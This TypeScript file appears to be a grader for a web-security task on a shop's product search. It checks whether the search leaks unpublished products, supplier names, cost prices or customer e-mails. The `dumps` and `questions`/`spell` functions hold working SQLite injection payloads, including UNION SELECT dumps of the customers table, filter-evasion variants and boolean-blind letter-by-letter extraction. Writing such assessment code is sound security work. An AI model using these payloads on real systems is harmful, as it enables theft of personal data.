import { type CheckContext, fail, type Outcome, type PublicDoor, pass, publicDoors } from '../../server/kit.ts';
import type { Payload } from './payloads.ts';
import { canaryOf, changeWhatIsHidden, type Product, shelfOf, stored, tokenOf } from './shop.ts';

type Query = Payload['query'];

/** What the shop answered. */
export interface Answer {
  status: number;
  /** Of `{"products": […]}`; empty for every other answer. */
  products: Record<string, unknown>[];
  text: string;
}

/** Sends a search. Who is told to come back later does so. */
export async function ask(ctx: CheckContext, url: string, query: Query): Promise<Answer> {
  const pairs = Object.entries(query).flatMap(([name, value]) =>
    [value].flat().map((each) => `${name}=${encodeURIComponent(each).replaceAll("'", '%27')}`),
  );
  const address = pairs.length ? `${url}?${pairs.join('&')}` : url;
  let response = await timed(ctx, address);
  for (let again = 0; again < 3 && (response.status === 429 || response.status === 503); again++) {
    ctx.advance(60_000);
    response = await timed(ctx, address);
  }
  return { status: response.status, products: productsIn(response.text), text: response.text };
}

/** The search keeps visitors waiting: the application's fault, and no reason to give up without a verdict. */
class TooSlow extends Error {}

const patience = 6_000;

async function timed(ctx: CheckContext, url: string): Promise<{ status: number; text: string }> {
  const started = performance.now();
  const response = await ctx.http(url);
  if (response.status >= 500 && performance.now() - started > patience)
    throw new TooSlow(
      `a request took ${Math.round((performance.now() - started) / 1000)} seconds and ended in ${response.status}`,
    );
  return response;
}

/** A check in which an application that hangs fails. */
export const patiently =
  (run: (ctx: CheckContext) => Promise<Outcome>) =>
  async (ctx: CheckContext): Promise<Outcome> => {
    try {
      return await run(ctx);
    } catch (error) {
      if (error instanceof TooSlow) return fail(error.message);
      throw error;
    }
  };

function productsIn(text: string): Record<string, unknown>[] {
  try {
    const { products } = JSON.parse(text) as { products?: unknown };
    return Array.isArray(products)
      ? products.filter((each): each is Record<string, unknown> => typeof each === 'object' && each !== null)
      : [];
  } catch {
    return [];
  }
}

/** All doors to the shop: the published address first, and whatever else the account lets anyone ask. */
export async function doorsOf(ctx: CheckContext): Promise<PublicDoor[]> {
  const main = { name: 'the search', url: ctx.outputs['search address']! };
  const path = (url: string): string => new URL(url).pathname;
  const others = await publicDoors(ctx, 'products');
  return [main, ...others.filter(({ url }) => path(url) !== path(main.url))];
}

/** What an answer shows that no visitor may see, as the middle of a sentence. */
function shown(ctx: CheckContext, { text, products }: Answer): string | undefined {
  const known = new Map<string, Product>();
  const lower = text.toLowerCase();
  for (const side of ['before', 'after'] as const) {
    const shelf = shelfOf(ctx.gradeId, side);
    if (lower.includes(canaryOf(ctx.gradeId, side))) return "a customer's e-mail address";
    for (const product of shelf.products) {
      if (product.published) known.set(product.sku, product);
      else if (lower.includes(product.name.toLowerCase())) return `${product.sku}, which is not published`;
      const supplier = product.supplier.toLowerCase();
      if (supplier !== tokenOf(ctx.gradeId) && lower.includes(supplier)) return `the supplier of ${product.sku}`;
    }
  }
  for (const { sku, name, price, ...more } of products) {
    const product = known.get(String(sku));
    if (!product || product.name !== name || product.price !== Number(price))
      return `the row ${JSON.stringify({ sku, name, price }).slice(0, 120)}, which is no published product`;
    const costs = (['before', 'after'] as const).map(
      (side) => shelfOf(ctx.gradeId, side).products.find((each) => each.sku === sku)!.cost,
    );
    if (Object.values(more).some((value) => costs.includes(Number(value)))) return `the cost price of ${sku}`;
  }
  return undefined;
}

const listOf = ({ products }: Answer): string => JSON.stringify(products.map(({ sku }) => sku));
/** What two answers to one request must have in common; words with digits in them may be ids and times. */
const signature = (answer: Answer): string =>
  `${answer.status} ${listOf(answer)} ${answer.text.replace(/[A-Za-z0-9+/=_.:-]*\d[A-Za-z0-9+/=_.:-]*/g, '#')}`;

/**
 * Sends payloads to every door. Injection is proven by one of: an answer that shows what is hidden, an answer that
 * changes with what is hidden, a change of stored rows. Ordinary searches must not show anything hidden either.
 */
export async function tryPayloads(ctx: CheckContext, parameter: string, payloads: Payload[]): Promise<Outcome> {
  const before = await stored(ctx);
  const doubtful: { door: PublicDoor; payload: Payload; answer: Answer }[] = [];
  const doors = await doorsOf(ctx);
  for (const door of doors) {
    const plain = new Set(['[]']);
    const orders: Query[] =
      parameter === 'sort' ? [{ sort: 'name desc' }, { sort: 'price' }, { sort: 'price desc' }] : [];
    for (const query of [{}, ...orders]) {
      const answer = await ask(ctx, door.url, query);
      const leak = shown(ctx, answer);
      if (leak) return fail(`an ordinary request to ${door.name} shows ${leak}`);
      plain.add(listOf(answer));
    }
    for (const payload of payloads) {
      const answer = await ask(ctx, door.url, payload.query);
      const leak = shown(ctx, answer);
      if (leak) return fail(`${describe(door, payload)} shows ${leak}`);
      if (payload.again || !plain.has(listOf(answer))) doubtful.push({ door, payload, answer });
    }
  }
  if ((await stored(ctx)) !== before) return fail(`requests with SQL in ${parameter} changed rows of the database`);
  if (doubtful.length > 0) {
    await changeWhatIsHidden(ctx, ctx.gradeId);
    // Longer than any sensible cache of answers.
    ctx.advance(15 * 60_000);
    for (const { door, payload, answer } of doubtful)
      if (signature(await ask(ctx, door.url, payload.query)) !== signature(answer))
        return fail(
          `${describe(door, payload)} gets another answer when only data changes that visitors may not see: it can be asked about them`,
        );
  }
  return pass(`${payloads.length} requests with SQL in ${parameter} showed and changed nothing`);
}

/** A text that the database computes must find nothing: what is typed is looked for as it is. */
export async function tryComputedTexts(
  ctx: CheckContext,
  texts: { family: string; text: string; other: string }[],
): Promise<Outcome> {
  const token = tokenOf(ctx.gradeId);
  for (const door of await doorsOf(ctx))
    for (const { family, text, other } of texts) {
      const finds = async (q: string): Promise<boolean> =>
        (await ask(ctx, door.url, { q })).products.some(({ name }) => String(name).includes(token));
      if ((await finds(text)) && !(await finds(other)))
        return fail(
          `${describe(door, { family, query: { q: text } })} finds a product whose name the text does not contain: the database computed it`,
        );
    }
  return pass('texts that only a database could compute find nothing');
}

function describe(door: PublicDoor, { family, query }: Payload): string {
  const text = Object.entries(query)
    .map(([name, value]) => `${name}=${[value].flat().join(` & ${name}=`)}`)
    .join(' & ');
  const short = text.length > 100 ? `${text.slice(0, 100)}…` : text;
  return `${door.name} with ${short.replace(/\s/g, ' ')} (${family})`;
}

/** A visitor reads a customer's e-mail address: at once with a second query, or letter by letter from yes and no. */
export async function stealCustomers(ctx: CheckContext): Promise<Outcome> {
  const canary = canaryOf(ctx.gradeId);
  const token = tokenOf(ctx.gradeId);
  for (const door of await doorsOf(ctx)) {
    for (const query of dumps(ctx)) {
      const answer = await ask(ctx, door.url, query);
      if (answer.text.toLowerCase().includes(canary))
        return pass(`${describe(door, { family: 'a second query', query })} lists the customers' e-mail addresses`);
    }
    for (const [parameter, condition, question] of questions(token)) {
      const got = await spell(ctx, door, parameter, condition, question, 4);
      if (got === canary.slice(0, 4))
        return pass(
          `${door.name} answers questions about customers in ${parameter}: an e-mail address was read letter by letter (${got}…)`,
        );
    }
  }
  return fail("no request made the search tell a customer's e-mail address");
}

function dumps(ctx: CheckContext): Query[] {
  const n = `x${1 + (ctx.random.bytes(1)[0]! % 90)}`;
  const from = 'email, name, 0';
  return [
    { q: `${n}' union select name, sql, 0 from sqlite_master--` },
    { q: `${n}' union select ${from} from customers--` },
    { q: `${n}' union select ${from}, 0 from customers--` },
    { q: `${n}'/**/uNiOn/**/aLl/**/sElEcT/**/email,name,0/**/fRoM/**/customers/**/wHeRe/**/'%'='` },
    { q: `${n}' ununionion selselectect ${from} frfromom customers-- ` },
    { max: `0 union select ${from} from customers` },
    { max: `0 union select ${from}, 0 from customers--` },
    { max: `0\n/**/uNiOn/**/aLl/**/sElEcT/**/email,name,0/**/fRoM/**/customers` },
    { max: `0 ununionion selselectect ${from} frfromom customers` },
  ];
}

type Question = (condition: string) => Query;
/** "Is letter `at` of the first customer's address at most `last`, when the letters before it are `known`?" */
type Condition = (known: string, at: number, last: string) => string;

const address = '(select email from customers order by id limit 1)';
/** Without commas and signs. */
const inWords: Condition = (known, _, last) => `${address} between 'a' and '${known}${last}zzzzzz'`;
/** Without quotes. */
const inNumbers: Condition = (_, at, last) =>
  `unicode(substr(${address},${at},1)) between 97 and ${last.charCodeAt(0)}`;

/** Requests whose answer tells whether a condition holds. */
function questions(token: string): [parameter: string, condition: Condition, question: Question][] {
  const crash = 'abs(-9223372036854775807-1)';
  const tight = (text: string): string => text.replaceAll(' ', '/**/');
  return [
    ['q', inWords, (condition) => ({ q: `${token}%' and ${condition} and '%' like '` })],
    ['max', inNumbers, (condition) => ({ max: `0\n+case when ${condition} then 9999 else -1 end` })],
    ['sort', inNumbers, (condition) => ({ sort: `price\n*case when ${condition} then 1 else -1 end` })],
    ['sort', inNumbers, (condition) => ({ sort: `price *${tight(`case when ${condition} then 1 else -1 end`)}` })],
    ['sort', inNumbers, (condition) => ({ sort: `price,case when ${condition} then 1 else ${crash} end` })],
  ];
}

/** The first letters of the first customer's address, by halves. Undefined where yes and no look the same. */
async function spell(
  ctx: CheckContext,
  door: PublicDoor,
  parameter: string,
  condition: Condition,
  question: Question,
  length: number,
): Promise<string | undefined> {
  const look = async (text: string): Promise<string> => {
    const answer = await ask(ctx, door.url, question(text));
    return `${answer.status} ${listOf(answer)}`;
  };
  const yes = await look('7 between 1 and 9');
  if (yes === (await look('7 between 8 and 9'))) return undefined;
  let known = '';
  for (let at = 1; at <= length; at++) {
    let low = 97;
    let high = 122;
    while (low < high) {
      const middle = (low + high) >> 1;
      if ((await look(condition(known, at, String.fromCharCode(middle)))) === yes) high = middle;
      else low = middle + 1;
    }
    known += String.fromCharCode(low);
  }
  ctx.note(`answers to ${parameter} spell a customer's address`, 'answered', known);
  return known;
}
